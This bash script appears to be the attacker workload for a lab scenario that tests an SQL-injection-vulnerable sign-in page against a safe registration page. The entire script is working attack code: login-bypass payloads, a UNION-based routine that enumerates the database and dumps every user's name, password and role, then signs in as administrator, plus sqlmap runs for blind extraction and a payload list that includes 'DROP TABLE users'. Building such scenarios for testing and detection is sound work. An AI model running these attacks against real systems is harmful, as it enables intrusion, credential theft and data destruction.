#!/bin/bash
# sqli-attacker.sh - the workload of the `sqli` scenario.
#
# An attacker goes after the portal at APP_URL (http://app or https://app):
# its sign-in page pastes the form's values into SQL (vulnerable), its
# registration page uses prepared statements (not vulnerable). What the
# attacker does comes from ATTACK (one per subscenario):
#   login-manual    by hand with curl: a drawn selection of classic login
#                   bypasses (`' OR '1'='1' -- ` and friends, in the user
#                   name or the password), then the UNION route: the column
#                   count (ORDER BY n), the reflected column, the version,
#                   the database, its tables, the users table's columns, a
#                   SLEEP probe and the dump of every user name, password
#                   and role (GROUP_CONCAT); finally it signs in as the
#                   administrator with what it stole
#   login-sqlmap    registers an account of its own, then sqlmap with the
#                   drawn techniques (SQLMAP_TECHNIQUE) dumps the users
#                   table through the sign-in form
#   login-boolean   the same with boolean-based blind only, dumping the
#                   administrators' names and passwords bit by bit
#   login-time      the same with time-based blind only (SLEEP), reading
#                   the number of accounts
#   register-manual the classic injection strings against the registration
#                   form: every one is refused or stored as plain text
#   register-sqlmap sqlmap against the registration form's fields
# Exit 0 when the attack played out as designed - the injections into the
# sign-in page worked, those into the registration page did not - and 1
# otherwise. Every choice (which payloads, in which order) comes from
# ATTACKER_SEED; the pause between hand-made requests from THINK.
set -euo pipefail

: "${ATTACK:?ATTACK must name the attack}"
: "${APP_URL:?}"
THINK=${THINK:-0.2}
UA=${USER_AGENT:-default}
COMMENT=${COMMENT:--- -}
WORK=/tmp/attack
mkdir -p "$WORK"

fail() {
    echo "sqli-attacker: FAILED ($ATTACK): $*" >&2
    if [ -n "${body:-}" ] && [ -s "$body" ]; then
        echo "---- last response ($body) ----" >&2
        head -c 3000 "$body" >&2
        echo >&2
    fi
    exit 1
}
log() { echo "sqli-attacker: $*"; }

# ---- reproducible choices -------------------------------------------------
mapfile -t RNG < <(awk -v s="${ATTACKER_SEED:-1}" 'BEGIN { srand(s); for (i = 0; i < 2000; i++) printf "%.6f\n", rand() }')
RNG_I=0
rand_int() {
    local u=${RNG[RNG_I]}
    RNG_I=$((RNG_I + 1))
    R=$(awk -v u="$u" -v n="$1" 'BEGIN { print int(u * n) }')
}
think() {
    local u=${RNG[RNG_I]} t
    RNG_I=$((RNG_I + 1))
    t=$(awk -v u="$u" -v m="$THINK" 'BEGIN { t = -m * log(1 - u); if (t > 4 * m) t = 4 * m; printf "%.3f", t }')
    sleep "$t"
}

# ---- HTTP -----------------------------------------------------------------
curl_opts=(-sS -k --max-time 30)
[ "$UA" = default ] || curl_opts+=(-A "$UA")
n=0
# request URL [curl arguments...]: body in $body, status in $status,
# seconds taken in $took.
request() {
    local url=$1 out
    shift
    n=$((n + 1))
    body=$WORK/resp-$n
    out=$(curl "${curl_opts[@]}" -o "$body" -w '%{http_code} %{time_total}' "$@" "$url") || fail "curl $url failed"
    status=${out%% *}
    took=${out#* }
}
# A form post, fields URL-encoded as a browser would.
post() {
    local url=$1 f args=()
    shift
    for f in "$@"; do args+=(--data-urlencode "$f"); done
    request "$url" "${args[@]}"
}
# HTML entities back to text.
unhtml() {
    sed -e 's/&#039;/'"'"'/g' -e 's/&apos;/'"'"'/g' -e 's/&quot;/"/g' -e 's/&lt;/</g' -e 's/&gt;/>/g' -e 's/&amp;/\&/g'
}

# What the sign-in page said: "welcome <name> <role>", "error <message>"
# or "invalid".
outcome() {
    local w
    dberror=
    w=$(grep -o '<p class="ok">Welcome back, .*! You are signed in as [^<]*\.</p>' "$body" |
        sed -e 's/^<p class="ok">Welcome back, //' -e 's/! You are signed in as /\t/' -e 's/\.<\/p>$//' || true)
    if [ -n "$w" ]; then
        welcome=$(printf '%s' "${w%%$'\t'*}" | unhtml)
        RESULT="welcome"
    elif grep -q '<p class="error">Database error: ' "$body"; then
        RESULT="error"
        dberror=$(grep -o '<p class="error">Database error: [^<]*' "$body" | sed 's/^<p class="error">Database error: //' | unhtml)
    elif grep -q 'Invalid username or password.' "$body"; then
        RESULT="invalid"
    else
        fail "unexpected answer from the sign-in page (status $status)"
    fi
}

# ---- hand-made injections into the sign-in form ---------------------------
# Classic bypasses: the field they go into and the string.
BYPASSES=(
    "username|' OR '1'='1' -- "
    "username|' OR 1=1-- -"
    "username|' OR 1=1#"
    "username|admin' -- "
    "username|admin'#"
    "username|' OR 'x'='x"
    "username|') OR ('1'='1"
    "username|\" OR \"1\"=\"1"
    "username|' OR 1=1 LIMIT 1-- -"
    "username|' OR ''='"
    "username|1' OR '1'='1'/*"
    "username|' OR TRUE-- -"
    "password|' OR '1'='1"
    "password|') OR ('1'='1"
    "password|' OR 1=1-- -"
)

# union SELECT-LIST [FROM...]: a UNION injection in the user name; sets
# $welcome to what the page reflected.
union() {
    local payload="' UNION SELECT $1 ${2:-}$COMMENT"
    think
    post "$APP_URL/login.php" "username=$payload" "password=${DECOY_PASSWORD:-x}"
    outcome
    [ "$RESULT" = welcome ] || fail "UNION injection '$payload' gave $RESULT${dberror:+: $dberror}"
}

# The select list for $cols columns with $1 in the reflected one.
cols_with() {
    local i out=()
    for ((i = 1; i <= cols; i++)); do
        if [ "$i" -eq "$reflected" ]; then out+=("$1"); else out+=("$i"); fi
    done
    local IFS=,
    echo "${out[*]}"
}

login_manual() {
    local tries=${BYPASS_TRIES:?} i k entry field payload ok=0 pool=()
    request "$APP_URL/"
    think
    request "$APP_URL/login.php"
    grep -q 'name="password"' "$body" || fail "no sign-in form"
    # A drawn selection of the classic bypasses, in a drawn order.
    pool=("${BYPASSES[@]}")
    for ((i = 0; i < tries && ${#pool[@]} > 0; i++)); do
        rand_int ${#pool[@]}
        entry=${pool[R]}
        pool=("${pool[@]:0:R}" "${pool[@]:R+1}")
        field=${entry%%|*}
        payload=${entry#*|}
        think
        if [ "$field" = username ]; then
            post "$APP_URL/login.php" "username=$payload" "password=${DECOY_PASSWORD:-x}"
        else
            post "$APP_URL/login.php" "username=${GUESS_USER:-admin}" "password=$payload"
        fi
        outcome
        case "$RESULT" in
        welcome)
            ok=$((ok + 1))
            log "bypass in $field [$payload]: signed in as '$welcome'"
            ;;
        error) log "bypass in $field [$payload]: database error: $dberror" ;;
        *) log "bypass in $field [$payload]: refused" ;;
        esac
    done
    log "$ok of $i bypass(es) worked"

    # The UNION route: how many columns (ORDER BY n until the error) ...
    cols=0
    for ((k = 1; k <= 10; k++)); do
        think
        post "$APP_URL/login.php" "username=' ORDER BY $k$COMMENT" "password=${DECOY_PASSWORD:-x}"
        outcome
        if [ "$RESULT" = error ]; then
            cols=$((k - 1))
            break
        fi
    done
    [ "$cols" -ge 1 ] || fail "ORDER BY found no column count"
    log "the query has $cols column(s)"
    # ... which one the page shows ...
    local list
    list=$(seq -s, 1 "$cols")
    union "$list"
    reflected=$welcome
    [[ $reflected =~ ^[0-9]+$ ]] && [ "$reflected" -ge 1 ] && [ "$reflected" -le "$cols" ] ||
        fail "the page reflects '$reflected', not a column number"
    log "column $reflected is shown on the page"
    # ... then the server, the database, its tables and columns.
    union "$(cols_with '@@version')"
    log "version: $welcome"
    union "$(cols_with 'database()')"
    local dbname=$welcome
    log "database: $dbname"
    union "$(cols_with 'GROUP_CONCAT(table_name)')" "FROM information_schema.tables WHERE table_schema=database()"
    log "tables: $welcome"
    [[ ",$welcome," == *,users,* ]] || fail "no users table among '$welcome'"
    union "$(cols_with 'GROUP_CONCAT(column_name)')" "FROM information_schema.columns WHERE table_schema=database() AND table_name=0x7573657273"
    log "columns of users: $welcome"
    # A time probe: the page answers only after SLEEP(1).
    union "$(cols_with 'SLEEP(1)')"
    awk -v t="$took" 'BEGIN { exit !(t >= 1) }' || fail "SLEEP(1) answered in $took s"
    log "SLEEP(1) probe answered after $took s"
    # The dump: user:password:role, comma-separated.
    union "$(cols_with 'GROUP_CONCAT(username,0x3a,password,0x3a,role SEPARATOR 0x2c)')" "FROM users"
    local dump=$welcome rows=() r admin='' adminpw=''
    IFS=, read -r -a rows <<<"$dump"
    [ ${#rows[@]} -ge 1 ] || fail "the dump is empty"
    log "dumped ${#rows[@]} account(s) from $dbname.users:"
    for r in "${rows[@]}"; do
        echo "    $r"
        if [ -z "$admin" ] && [ "${r##*:}" = admin ]; then
            admin=${r%%:*}
            adminpw=${r#*:}
            adminpw=${adminpw%:*}
        fi
    done
    [ -n "$admin" ] || fail "no administrator in the dump"
    # Signing in as the administrator: with the stolen password if it is in
    # clear, by commenting the password check out if it is a hash.
    think
    if [[ $adminpw =~ ^[0-9a-f]{32}$ ]]; then
        post "$APP_URL/login.php" "username=$admin'$COMMENT" "password=${DECOY_PASSWORD:-x}"
        local how="by commenting out the (MD5) password check"
    else
        post "$APP_URL/login.php" "username=$admin" "password=$adminpw"
        local how="with the stolen password"
    fi
    outcome
    [ "$RESULT" = welcome ] && [ "$welcome" = "$admin" ] || fail "could not sign in as $admin"
    log "signed in as the administrator $admin $how"
}

# ---- sqlmap -----------------------------------------------------------------
SQLMAP_OUT=$WORK/sqlmap.log
run_sqlmap() {
    local args=(--batch --flush-session --answers="crack=N,dictionary=N" --dbms=MySQL)
    [ "${RANDOM_AGENT:-no}" = yes ] && args+=(--random-agent)
    [ "$UA" = default ] || [ "${RANDOM_AGENT:-no}" = yes ] || args+=(-A "$UA")
    log "sqlmap ${args[*]} $*"
    local rc=0
    sqlmap "${args[@]}" "$@" 2>&1 | tee "$SQLMAP_OUT" || rc=$?
    [ "$rc" -eq 0 ] || fail "sqlmap exited $rc"
    if grep -q '\[CRITICAL\]' "$SQLMAP_OUT"; then
        grep '\[CRITICAL\]' "$SQLMAP_OUT" >&2
    fi
}

# The attacker's own account on the portal: its name is a user name that
# exists, so sqlmap's AND payloads reach the injected condition.
own_account() {
    : "${OWN_USER:?}" "${OWN_PASSWORD:?}"
    request "$APP_URL/"
    think
    request "$APP_URL/register.php"
    think
    post "$APP_URL/register.php" "username=$OWN_USER" "email=$OWN_USER@mail.example" "password=$OWN_PASSWORD"
    [ "$status" = 200 ] || fail "registration of the attacker's account: status $status"
    think
    post "$APP_URL/login.php" "username=$OWN_USER" "password=$OWN_PASSWORD"
    outcome
    [ "$RESULT" = welcome ] || fail "the attacker's own account does not sign in"
    log "registered and signed in as $OWN_USER"
}

login_sqlmap() {
    local technique=$1
    shift
    own_account
    run_sqlmap -u "$APP_URL/login.php" --data "username=$OWN_USER&password=$OWN_PASSWORD" -p username \
        --technique="$technique" --threads="${THREADS:-1}" "$@"
    grep -q "^Parameter: username (POST)" "$SQLMAP_OUT" || fail "sqlmap found no injection in the user name"
}

login_dump() {
    login_sqlmap "${SQLMAP_TECHNIQUE:?}" --dump -T users
    grep -qE '^\[[0-9]+ entries\]' "$SQLMAP_OUT" || fail "sqlmap dumped no entries"
    grep -qE "^\| .*\| $OWN_USER +\|" "$SQLMAP_OUT" || fail "the dump lacks the attacker's own account"
    grep -qE '\| admin +\|' "$SQLMAP_OUT" || fail "the dump lacks an administrator"
    log "sqlmap dumped the users table ($(grep -oE '^\[[0-9]+ entries\]' "$SQLMAP_OUT"))"
}

login_boolean() {
    login_sqlmap B --dump -T users -C username,password --where "role='admin'"
    grep -q 'boolean-based blind' "$SQLMAP_OUT" || fail "no boolean-based blind injection"
    grep -qE '^\[[0-9]+ entr(y|ies)\]' "$SQLMAP_OUT" || fail "sqlmap retrieved no administrator"
    log "sqlmap read the administrators bit by bit"
}

login_time() {
    login_sqlmap T --time-sec="${TIME_SEC:-1}" --sql-query "SELECT COUNT(*) FROM users"
    grep -q 'time-based blind' "$SQLMAP_OUT" || fail "no time-based blind injection"
    local count
    count=$(grep -oE "^SELECT COUNT\(\*\) FROM users: '[0-9]+'" "$SQLMAP_OUT" | grep -oE '[0-9]+' | tail -1) ||
        fail "sqlmap did not read the number of accounts"
    [ "$count" -ge 2 ] || fail "only $count account(s) read"
    log "sqlmap read $count accounts through SLEEP delays"
}

# ---- the registration page (not vulnerable) -------------------------------
REGISTER_PAYLOADS=(
    "' OR '1'='1"
    "' OR 1=1-- -"
    "admin'-- -"
    "x' UNION SELECT 1,@@version,3-- -"
    "x' UNION SELECT NULL,NULL,NULL,NULL,NULL,NULL-- -"
    "x'; DROP TABLE users;-- -"
    "x' AND SLEEP(2)-- -"
    "x' AND EXTRACTVALUE(1,CONCAT(0x7e,version()))-- -"
    "x') OR ('1'='1"
    "x\" OR \"1\"=\"1"
    "x' AND 1=CONVERT(int,@@version)-- -"
    "x' OR 'a'='a"
)

register_manual() {
    local tries=${REGISTER_TRIES:?} i entry field pool=() refused=0 stored=0
    request "$APP_URL/"
    think
    request "$APP_URL/register.php"
    grep -q 'name="email"' "$body" || fail "no registration form"
    pool=("${REGISTER_PAYLOADS[@]}")
    for ((i = 0; i < tries && ${#pool[@]} > 0; i++)); do
        rand_int ${#pool[@]}
        entry=${pool[R]}
        pool=("${pool[@]:0:R}" "${pool[@]:R+1}")
        rand_int 2
        if [ "$R" -eq 0 ]; then field=username; else field=email; fi
        think
        if [ "$field" = username ]; then
            post "$APP_URL/register.php" "username=$entry" "email=${OWN_USER:-x}$i@mail.example" "password=${OWN_PASSWORD:-secret1}"
        else
            post "$APP_URL/register.php" "username=${OWN_USER:-x}$i" "email=$entry" "password=${OWN_PASSWORD:-secret1}"
        fi
        # The injection failed if the page shows no database error, no data
        # and only one of its own answers.
        grep -qiE 'database error|SQL syntax|mysqli|MariaDB|XPATH|Warning:' "$body" &&
            fail "[$entry] in $field: the page leaks a database error"
        grep -qF '10.11.' "$body" && fail "[$entry] in $field: the page leaks the server version"
        case "$status" in
        422)
            grep -q '<p class="error">' "$body" || fail "[$entry] in $field: 422 without a message"
            refused=$((refused + 1))
            log "[$entry] in $field: refused by the input checks (422, ${took}s)"
            ;;
        200)
            grep -q '<p class="ok">Thank you!' "$body" || fail "[$entry] in $field: an unexpected page"
            stored=$((stored + 1))
            log "[$entry] in $field: accepted as plain text, nothing injected (200, ${took}s)"
            ;;
        *) fail "[$entry] in $field: status $status" ;;
        esac
    done
    log "no injection into the registration page worked: $refused refused, $stored stored as text"
}

register_sqlmap() {
    request "$APP_URL/register.php"
    run_sqlmap -u "$APP_URL/register.php" \
        --data "username=${OWN_USER:?}&email=$OWN_USER@mail.example&password=${OWN_PASSWORD:?}" \
        -p "${SQLMAP_PARAMS:?}" --technique="${SQLMAP_TECHNIQUE:?}" --threads="${THREADS:-1}" --time-sec=1
    grep -q '^Parameter: ' "$SQLMAP_OUT" && fail "sqlmap found an injection in the registration page"
    grep -q 'all tested parameters do not appear to be injectable' "$SQLMAP_OUT" ||
        fail "sqlmap did not finish its tests"
    log "sqlmap found nothing to inject in the registration page ($SQLMAP_PARAMS)"
}

case "$ATTACK" in
login-manual) login_manual ;;
login-sqlmap) login_dump ;;
login-boolean) login_boolean ;;
login-time) login_time ;;
register-manual) register_manual ;;
register-sqlmap) register_sqlmap ;;
*) fail "unknown ATTACK '$ATTACK'" ;;
esac
